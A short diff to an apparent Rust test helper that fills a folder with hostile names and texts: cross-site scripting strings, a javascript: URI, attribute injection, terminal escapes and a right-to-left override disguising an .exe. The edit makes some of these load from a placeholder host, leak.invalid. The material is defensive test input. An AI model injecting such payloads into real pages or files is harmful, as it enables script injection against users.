@@ -145,7 +145,7 @@ pub(crate) fn killed(folder: &Path) {
 /// Every name and text means harm.
 pub(crate) fn hostile(folder: &Path) {
     let harm = [
-        "</script><img src=x onerror=document.title='pwned'><script>document.title='pwned'</script>",
+        "</script><img src=http://leak.invalid/x onerror=document.title='pwned'><script src=http://leak.invalid/y>document.title='pwned'</script>",
         "javascript:document.title='pwned'",
         "\u{1b}[31mred\u{1b}[0m \u{202e}txt.exe\u{200b} \u{0}\u{7} <b>&amp;</b> ]]> <!-- ${document.title='pwned'}",
         "\"onmouseover=\"document.title='pwned'\" x=\"",
